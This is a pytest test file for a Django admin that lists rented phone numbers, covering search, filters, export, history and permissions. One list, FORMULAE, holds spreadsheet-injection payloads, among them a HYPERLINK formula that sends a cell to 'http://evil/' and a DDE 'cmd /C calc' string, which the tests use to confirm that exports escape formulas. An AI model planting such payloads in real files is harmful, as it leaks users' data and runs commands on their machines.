"""The inventory: filters, search, ordering, export, history, query count, and who may do what."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from rentals.models import Rental, RentalStatus, SmsMessage
from rentals.reasons import reason_words
from rentals.services.api_tokens import api_token_create

from ..factories import AccountFactory, RentalFactory

pytestmark = pytest.mark.django_db(transaction=True)

LIST_URL = reverse("admin:rentals_rental_changelist")
EXPORT_FIELDS = ["number", "used_for", "service", "country", "operator", "status", "end_date", "cost", "account",
                 "assignee", "rented_by", "notes"]  # fmt: skip


def member(username: str, group: str) -> User:
    user = User.objects.create_user(username, password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def operator(client):
    user = member("olena", "Operator")
    client.force_login(user)
    client.user = user
    return client


def listed_numbers(response) -> list[str]:
    table = re.search(r'<table id="result_list">.*?</table>', response.content.decode(), re.S)
    # Each number is written in its groups ("+380 67 …"), each in a span: read back as the digits.
    cells = re.findall(r'data-rental-id="\d+">(.*?)</span></span>', table.group(0)) if table else []
    return [re.sub(r"<[^>]+>|\+", "", cell) for cell in cells]


@pytest.fixture
def inventory(db):
    now = timezone.now()
    return {
        "in_1h": RentalFactory(number="380501110001", end_date=now + timedelta(hours=1), label="Ads #1"),
        "in_10h": RentalFactory(number="380501110002", end_date=now + timedelta(hours=10), notes="for the shop"),
        "in_50h": RentalFactory(number="380501110003", end_date=now + timedelta(hours=50)),
        "in_200h": RentalFactory(number="380501110004", end_date=now + timedelta(hours=200)),
        "ended": RentalFactory(number="380501110005", end_date=now - timedelta(hours=3), status=RentalStatus.EXPIRED),
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("expiring=2h", ["in_1h"]),
        ("expiring=24h", ["in_1h", "in_10h"]),
        ("expiring=72h", ["in_1h", "in_10h", "in_50h"]),
        ("expiring=expired", ["ended"]),
        ("status__exact=expired", ["ended"]),
        ("", ["in_1h", "in_10h", "in_50h", "in_200h", "ended"]),  # active soonest first, then the rest
    ],
)
def test_filters_and_default_order(operator, inventory, query, expected):
    assert listed_numbers(operator.get(f"{LIST_URL}?{query}")) == [inventory[key].number for key in expected]


def test_the_end_date_range_filter(operator, inventory):
    # From the day after the 10-hour rental ends to the day the 50-hour one ends, at any time of day.
    now = timezone.now()
    start = timezone.localdate(now + timedelta(hours=10)) + timedelta(days=1)
    end = timezone.localdate(now + timedelta(hours=50))
    response = operator.get(
        LIST_URL, {"end_date__range__gte": start.isoformat(), "end_date__range__lte": end.isoformat()}
    )
    within = [key for key in ("in_1h", "in_10h", "in_50h", "in_200h")  # the list's order: soonest first
              if start <= timezone.localdate(inventory[key].end_date) <= end]  # fmt: skip
    assert "in_50h" in within and "in_200h" not in within
    assert listed_numbers(response) == [inventory[key].number for key in within]


def test_mine_filters(operator, inventory):
    Rental.objects.filter(pk=inventory["in_10h"].pk).update(assignee=operator.user)
    Rental.objects.filter(pk=inventory["in_50h"].pk).update(rented_by=operator.user)
    assert listed_numbers(operator.get(f"{LIST_URL}?mine=assigned")) == [inventory["in_10h"].number]
    assert listed_numbers(operator.get(f"{LIST_URL}?mine=rented")) == [inventory["in_50h"].number]


@pytest.mark.parametrize(
    ("in_the_admin", "in_the_api", "expected"),
    [
        ("expiring=24h", {"ending_within_hours": 24}, ["in_1h", "in_10h"]),
        ("mine=assigned", {"mine": "assigned"}, ["in_10h"]),
        ("mine=rented", {"mine": "rented"}, ["in_50h", "ended"]),
        ("status__exact=expired&mine=rented", {"status": "expired", "mine": "rented"}, ["ended"]),
        ("expiring=72h&q=shop", {"ending_within_hours": 72, "q": "shop"}, ["in_10h"]),
        ("", {}, ["in_1h", "in_10h", "in_50h", "in_200h", "ended"]),
    ],
)
def test_the_admin_and_the_api_list_the_same_rentals_in_the_same_order(
    operator, inventory, in_the_admin, in_the_api, expected
):
    Rental.objects.filter(pk=inventory["in_10h"].pk).update(assignee=operator.user)
    Rental.objects.filter(pk__in=[inventory["in_50h"].pk, inventory["ended"].pk]).update(rented_by=operator.user)
    numbers = [inventory[key].number for key in expected]
    assert listed_numbers(operator.get(f"{LIST_URL}?{in_the_admin}")) == numbers
    token = api_token_create(user=operator.user, name="inventory")[1]
    listed = operator.get("/api/rentals", in_the_api, HTTP_AUTHORIZATION=f"Bearer {token}").json()["results"]
    assert [rental["number"] for rental in listed] == numbers


@pytest.mark.parametrize("term", ["+380501110002", "380 50 111 0002", "+380-50-111-0002", "0002", "shop", "the shop"])
def test_search_by_number_in_any_spelling_and_by_notes(operator, inventory, term):
    assert listed_numbers(operator.get(LIST_URL, {"q": term})) == [inventory["in_10h"].number]


@pytest.fixture
def spelled(db):
    """Numbers a search in any spelling must tell apart: the same tail in another country, a number
    starting with the whole number, and one rental whose label differs only in case."""
    return {
        "uk": RentalFactory(number="447700900123", label="Магазин login"),
        "same tail": RentalFactory(number="380500900123"),
        "longer": RentalFactory(number="447700900123999"),
        "other": RentalFactory(number="380671234567", notes="Ticket 7700"),
    }


@pytest.mark.parametrize(
    ("term", "found"),
    [
        ("+44 7700 900123", ["uk", "longer"]),
        ("447700900123", ["uk", "longer"]),
        ("7700-900-123", ["uk"]),
        ("(7700) 900 123", ["uk"]),
        ("900123", ["uk", "same tail"]),
        ("0671234567", ["other"]),  # a national number written with its trunk 0
        ("00 44 7700 900123", ["uk", "longer"]),  # dialled with the international prefix
        ("04567", []),  # a tail's zeros count (the number ends in 1234567)
        ("00900", []),  # digits in the middle of a number are not a number's start or end
        ("магазин", ["uk"]),
        ("МАГАЗИН LOGIN", ["uk"]),
        ("ticket", ["other"]),
        ('"login"', ["uk"]),
        ("ма", ["uk"]),  # shorter than a trigram
        ('"ticket 7700"', ["other"]),  # a phrase, its space in it
        ("7700%", []),  # LIKE's wildcard is a character like any other
        ('ticket"', []),
    ],
)
def test_the_admin_and_the_api_find_the_same_rentals_in_any_spelling(operator, spelled, term, found):
    wanted = sorted(spelled[key].number for key in found)
    assert sorted(listed_numbers(operator.get(LIST_URL, {"q": term}))) == wanted
    token = api_token_create(user=operator.user, name="search")[1]
    listed = operator.get("/api/rentals", {"q": term}, HTTP_AUTHORIZATION=f"Bearer {token}").json()["results"]
    assert sorted(rental["number"] for rental in listed) == wanted


def test_a_label_changed_by_any_path_is_searched_as_it_now_reads(operator, spelled):
    Rental.objects.filter(pk=spelled["other"].pk).update(label="Ads")
    rental = Rental.objects.get(pk=spelled["same tail"].pk)
    rental.notes = "Ads too"
    rental.save(update_fields=["notes"])
    assert sorted(listed_numbers(operator.get(LIST_URL, {"q": "ads"}))) == ["380500900123", "380671234567"]


OLDER_WORDS_TRIGGERS = [  # as the release before indexed every rental, with or without words
    "CREATE TRIGGER rental_words_added AFTER INSERT ON rentals_rental BEGIN"
    " INSERT INTO rental_words(rowid, search_words) VALUES (new.id, new.search_words); END",
    "CREATE TRIGGER rental_words_changed AFTER UPDATE OF search_words ON rentals_rental BEGIN"
    " INSERT INTO rental_words(rental_words, rowid, search_words) VALUES ('delete', old.id, old.search_words);"
    " INSERT INTO rental_words(rowid, search_words) VALUES (new.id, new.search_words); END",
]


@pytest.mark.skipif(connection.vendor != "sqlite", reason="SQLite's own index of the words")
def test_words_gained_lost_and_removed_are_searched_right_after_an_upgrade_of_the_index(operator, spelled):
    with connection.cursor() as cursor:
        cursor.execute("SELECT name FROM sqlite_master WHERE type = 'trigger' AND name LIKE 'rental_words%%'")
        for (name,) in cursor.fetchall():
            cursor.execute(f"DROP TRIGGER {name}")
        for older in OLDER_WORDS_TRIGGERS:
            cursor.execute(older)
        cursor.execute("INSERT INTO rental_words(rental_words) VALUES ('rebuild')")
    call_command("migrate", verbosity=0)  # an upgrade: the index is installed as this release keeps it
    bare = RentalFactory(number="380631112233")  # neither label nor notes
    Rental.objects.filter(pk=bare.pk).update(label="Кур'єр")  # noqa: RUF001
    Rental.objects.filter(pk=bare.pk).update(notes="нова пошта")  # words that change into other words
    Rental.objects.filter(pk=spelled["uk"].pk).update(label="")
    Rental.objects.filter(pk=spelled["other"].pk).delete()
    assert listed_numbers(operator.get(LIST_URL, {"q": "кур'єр пошта"})) == ["380631112233"]
    assert listed_numbers(operator.get(LIST_URL, {"q": "login"})) == []
    assert listed_numbers(operator.get(LIST_URL, {"q": "ticket"})) == []
    with connection.cursor() as cursor:  # a damaged index would fail every later search
        cursor.execute("INSERT INTO rental_words(rental_words) VALUES ('integrity-check')")
        cursor.execute("SELECT id FROM rental_words_docsize ORDER BY id")  # one row per rental it holds
        held = [row[0] for row in cursor.fetchall()]
    assert held == sorted(Rental.objects.exclude(search_words__in=["", "\n"]).values_list("pk", flat=True))


def test_a_list_longer_than_it_counts_says_so_and_offers_no_select_all(operator, inventory, monkeypatch):
    from rentals.admin.inventory import CountedUpToPaginator

    monkeypatch.setattr(CountedUpToPaginator, "count_up_to", 3)
    monkeypatch.setattr("rentals.admin.rentals.RentalAdmin.list_per_page", 2)
    page = operator.get(LIST_URL).content.decode()
    assert "More than 3 rentals: filter or search to narrow the list." in page
    assert "objects across all pages" not in page and 'class="action-counter"' in page
    narrowed = operator.get(LIST_URL, {"expiring": "24h"}).content.decode()  # two rentals: counted
    assert "2 rentals" in narrowed and "More than" not in narrowed


def test_the_latest_code_is_a_copy_button_from_the_first_load(operator, inventory):
    Rental.objects.filter(pk=inventory["in_1h"].pk).update(last_sms_text="Code 8080", last_sms_code="8080")
    page = operator.get(LIST_URL).content.decode()
    assert re.search(r'<td class="field-code_to_copy"><button type="button" class="copy-code" data-code="8080"', page)


def test_search_by_label_and_by_sms_text_only_for_those_who_may_read_sms(operator, client, inventory):
    SmsMessage.objects.create(rental=inventory["in_50h"], sender="Bank", text="Your login code 9911",
                              received_at=timezone.now(), dedupe_key="k", source="poll")  # fmt: skip
    assert listed_numbers(operator.get(LIST_URL, {"q": "Ads"})) == [inventory["in_1h"].number]
    assert listed_numbers(operator.get(LIST_URL, {"q": "login code"})) == [inventory["in_50h"].number]
    client.force_login(member("vika", "Viewer"))
    assert listed_numbers(client.get(LIST_URL, {"q": "login code"})) == []


def test_the_list_costs_the_same_queries_for_few_or_many_rentals(operator):
    account = AccountFactory()

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert operator.get(LIST_URL).status_code == 200
        return len(queries)

    for _ in range(3):
        RentalFactory(account=account, assignee=operator.user)
    few = count()
    for _ in range(30):
        RentalFactory(account=account, assignee=operator.user)
    assert count() == few


def test_export_holds_exactly_the_filtered_rows(operator, inventory):
    url = reverse("admin:rentals_rental_export") + "?expiring=24h"
    assert operator.get(url).status_code == 200
    data = {"format": "0", "resource": "0", **{f"rentalresource_{name}": "on" for name in EXPORT_FIELDS}}
    response = operator.post(url, data)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(row["Number"] for row in rows) == sorted(f"+{inventory[k].number}" for k in ("in_1h", "in_10h"))
    assert rows[0].keys() >= {"Number", "Used for", "Service", "End date", "Assignee", "Cost (USD)"}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d \w+", row["End date"]) for row in rows)


def test_claim_and_release_are_recorded_in_the_history(operator, inventory):
    rental = inventory["in_10h"]
    operator.post(LIST_URL, {"action": "claim", "_selected_action": [rental.pk]})
    rental.refresh_from_db()
    assert rental.assignee == operator.user
    operator.post(LIST_URL, {"action": "release", "_selected_action": [rental.pk]})
    rental.refresh_from_db()
    assert rental.assignee is None
    history = [
        (reason_words(why), who)
        for why, who in rental.history.order_by("history_date").values_list("history_change_reason", "history_user")
    ]
    assert history[-2:] == [("claimed", operator.user.pk), ("released by olena", operator.user.pk)]
    page = operator.get(reverse("admin:rentals_rental_history", args=[rental.pk])).content.decode()
    assert "claimed" in page and "Revert" not in page


def test_a_key_change_is_recorded_in_the_account_history_without_the_key(client):
    boss = User.objects.create_superuser("boss", password="pw")
    client.force_login(boss)
    account = AccountFactory(name="Main", api_url="https://api.example.test/stubs/handler_api.php")
    url = reverse("admin:rentals_provideraccount_change", args=[account.pk])
    client.post(url, {"name": "Main", "api_url": account.api_url, "api_key": "brand-new-key-7777",
                      "events-TOTAL_FORMS": "0", "events-INITIAL_FORMS": "0"})  # fmt: skip
    latest = account.history.latest("history_date")
    assert latest.history_user == boss and latest.api_key_changed_at is not None
    page = client.get(reverse("admin:rentals_provideraccount_history", args=[account.pk])).content.decode()
    assert "brand-new-key" not in page


def test_balance_checks_and_errors_do_not_fill_the_account_history(simulator):
    from rentals import services
    from rentals.provider.errors import NoNumbers

    account = AccountFactory(name="Main", api_url=simulator.api_url)
    before = account.history.count()
    services.account_check_balance(account=account)
    services.account_record_error(account=account, error=NoNumbers("NO_NUMBERS"), operation="getRentNumber")
    assert account.history.count() == before


FORMULAE = ['=HYPERLINK("http://evil/?"&B2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


def _export(client, file_format: str) -> bytes:
    data = {"format": file_format, "resource": "0", **{f"rentalresource_{name}": "on" for name in EXPORT_FIELDS}}
    response = client.post(reverse("admin:rentals_rental_export"), data)
    assert response.status_code == 200
    return response.content


def test_exports_carry_no_formula_whatever_a_label_or_note_says(operator):
    for index, formula in enumerate(FORMULAE):
        RentalFactory(number=f"38050222000{index}", label=formula, notes=formula, cost="-1.5")
    rows = list(csv.DictReader(io.StringIO(_export(operator, "0").decode("utf-8-sig"))))
    cells = [row[column] for row in rows for column in ("Used for", "Notes")]
    assert sorted(cells) == sorted(["'" + formula for formula in FORMULAE] * 2)  # shown as text, nothing lost
    assert {row["Number"][0] for row in rows} == {"+"} and {row["Cost (USD)"] for row in rows} == {"-1.50"}  # numbers

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(_export(operator, "1"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)  # no cell is a formula
    assert not any(str(cell.value or "").startswith("=") for cell in cells)
    assert "'" + FORMULAE[0] in {cell.value for cell in cells} and "None" not in {cell.value for cell in cells}


def test_rentals_made_before_the_search_keys_are_found_after_the_migration(operator, spelled):
    from django.db.migrations.executor import MigrationExecutor

    executor = MigrationExecutor(connection)
    executor.migrate([("rentals", "0035_desktop_notifications")])  # before the keys existed
    try:
        with connection.cursor() as cursor:
            cursor.execute("UPDATE rentals_rental SET label = 'Жилля', notes = '' WHERE number = '380500900123'")
    finally:
        call_command("migrate", verbosity=0)  # as an upgrade runs it: its post_migrate installs SQLite's index
    assert listed_numbers(operator.get(LIST_URL, {"q": "ЖИЛЛЯ"})) == ["380500900123"]
    assert sorted(listed_numbers(operator.get(LIST_URL, {"q": "900123"}))) == ["380500900123", "447700900123"]
